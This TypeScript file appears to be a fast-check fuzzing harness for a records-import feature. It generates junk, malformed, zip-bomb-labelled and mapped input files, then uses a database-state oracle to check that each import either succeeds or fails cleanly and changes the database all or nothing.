const junkFile: fc.Arbitrary<FuzzFile> = fc
  .tuple(
    fc.constantFrom(...magic),
    fc.uint8Array({ maxLength: 4_000 }),
    fc.constantFrom('junk.csv', 'junk.xlsx', 'junk.json', 'junk.bin'),
    fc.constantFrom<FuzzResource>('items', 'organizations'),
  )
  .map(([[variant, prefix], body, fileName, resource]) => ({
    category: 'junk' as const,
    variant,
    resource,
    fileName,
    bytes: new Uint8Array([...prefix, ...body]),
  }));

// ---------------------------------------------------------------------------------------------

const byCategory: Record<FuzzCategory, fc.Arbitrary<FuzzFile>> = {
  csv: csvFile,
  xlsx: xlsxFile,
  'xlsx-truncated': truncatedXlsx,
  'xlsx-damaged': damagedXlsx,
  'xlsx-malformed': malformedXlsx,
  'zip-bomb': zipBomb,
  json: jsonFile,
  empty: emptyFile,
  junk: junkFile,
};

// How often each category comes in a mixed run: the structured ones, which reach deepest, most.
const weights: Record<FuzzCategory, number> = {
  csv: 6,
  xlsx: 3,
  'xlsx-truncated': 3,
  'xlsx-damaged': 3,
  'xlsx-malformed': 3,
  'zip-bomb': 1,
  json: 1,
  empty: 1,
  junk: 1,
};

/** A saved mapping now and then: one that fits, one naming an unknown field, one for absent headers. */
const mappingArb = fc.oneof(
  { arbitrary: fc.constant(undefined), weight: 12 },
  { arbitrary: fc.constant({ Code: 'code', 'Organization (English)': 'names.en' }), weight: 1 },
  { arbitrary: fc.constant({ Code: 'no.such.field' }), weight: 1 },
  { arbitrary: fc.constant({ 'Not in the file': 'code' }), weight: 1 },
);

/** A mapping now and then, and a short name in fast-check's reports instead of every byte. */
function withMapping(files: fc.Arbitrary<FuzzFile>): fc.Arbitrary<FuzzFile> {
  return fc.tuple(files, mappingArb).map(([file, mapping]) => {
    const named = mapping ? { ...file, mapping } : { ...file };
    return Object.assign(named, {
      [fc.toStringMethod]: () =>
        `${named.category} (${named.variant}), ${named.fileName}, ${named.bytes.length} bytes, ${named.resource}${mapping ? `, mapping ${JSON.stringify(mapping)}` : ''}`,
    });
  });
}

/** Files of one category, or of all of them mixed. */
export function fuzzFile(category?: FuzzCategory): fc.Arbitrary<FuzzFile> {
  if (category) return withMapping(byCategory[category]);
  return withMapping(
    fc.oneof(...fuzzCategories.map((c) => ({ arbitrary: byCategory[c], weight: weights[c] }))),
  );
}

/**
 * `count` files of all categories, reproducible from `seed`, made a batch at a time so that a long
 * run never holds more than one batch (the megabyte cells and bombs add up).
 */
export function* fuzzFiles(count: number, seed: number, batch = 100): Generator<FuzzFile> {
  const files = fuzzFile();
  for (let made = 0, round = 0; made < count; round++) {
    const n = Math.min(batch, count - made);
    yield* fc.sample(files, { numRuns: n, seed: seed + round });
    made += n;
  }
}

// ---------------------------------------------------------------------------------------------
// The oracle

/** What an import may change: both resources' rows (count and a digest of their content) and the batches. */
export interface DbState {
  items: number;
  organizations: number;
  itemsDigest: string;
  organizationsDigest: string;
  batches: number;
}

/**
 * Reads the state through a pool that sees every row (the owner's, or a superuser's). The digests
 * sum a hash of each row version's transaction id and place: every committed insert, update or
 * delete changes them, and they cost far less than hashing the rows' text as the tables grow.
 */
export async function dbState(db: PgPool): Promise<DbState> {
  const digest = (table: string) =>
    `(SELECT coalesce(sum(hashtext(xmin::text || ctid::text)::bigint), 0)::text FROM ${table})`;
  const { rows } = await db.query<DbState>(
    `SELECT (SELECT count(*)::int FROM items) AS items,
            (SELECT count(*)::int FROM organizations) AS organizations,
            ${digest('items')} AS "itemsDigest",
            ${digest('organizations')} AS "organizationsDigest",
            (SELECT count(*)::int FROM import_batches) AS batches`,
  );
  const state = rows[0];
  if (!state) throw new Error('no state');
  return state;
}

export interface FuzzVerdict {
  /** `ok`, the AppError's code (with the reason of a malformed file: `exchange.malformed_xlsx/zip_bomb`), or `crash`. */
  outcome: string;
  /** Anything thrown that is not a clear AppError. */
  crash: unknown;
  /** How the database changed other than all or nothing, if it did. */
  partial: string | null;
  ms: number;
}

/**
 * Imports one file and judges it: the import must end in a report or an AppError other than
 * `internal`, and change the database all or nothing — on an error or a dry run, nothing at all;
 * on success, exactly `report.created` more rows of the resource, the other resource untouched and
 * one batch row.
 */
export async function importFuzzFile(
  ctx: Ctx,
  db: PgPool,
  file: FuzzFile,
  dryRun: boolean,
): Promise<FuzzVerdict> {
  const before = await dbState(db);
  const started = performance.now();
  let outcome: string;
  let crash: unknown = null;
  let expected: DbState = before;
  try {
    const report = await importRecords(ctx, {
      bytes: file.bytes,
      fileName: file.fileName,
      resource: file.resource,
      dryRun,
      ...(file.mapping ? { mapping: file.mapping } : {}),
      maxBytes: ctx.config.importMaxBytes,
    });
    outcome = 'ok';
    if (!dryRun) {
      expected = {
        ...before,
        [file.resource]: before[file.resource] + report.created,
        batches: before.batches + (report.batchId === null ? 0 : 1),
      };
    }
  } catch (error) {
    if (error instanceof AppError && error.code !== 'internal') {
      const reason = error.details.reason;
      // A reason is a code such as `zip_bomb`; some errors carry a sentence there instead.
      outcome =
        typeof reason === 'string' && /^[a-z0-9_]+$/.test(reason) ? `${error.code}/${reason}` : error.code;
    } else {
      outcome = 'crash';
      crash = error;
    }
  }
  const ms = performance.now() - started;
  const after = await dbState(db);
  const changed: string[] = [];
  for (const key of ['items', 'organizations', 'batches'] as const) {
    if (after[key] !== expected[key])
      changed.push(`${key} ${before[key]} → ${after[key]}, expected ${expected[key]}`);
  }
  // The content of what the file did not import into must not move; on an error or a dry run, of both.
  const untouched =
    outcome === 'ok' && !dryRun
      ? [file.resource === 'items' ? 'organizations' : 'items']
      : ['items', 'organizations'];
  for (const resource of untouched as FuzzResource[]) {
    const key = resource === 'items' ? 'itemsDigest' : 'organizationsDigest';
    if (after[key] !== before[key]) changed.push(`${resource} rows changed`);
  }
  return { outcome, crash, partial: changed.length > 0 ? changed.join('; ') : null, ms };
}
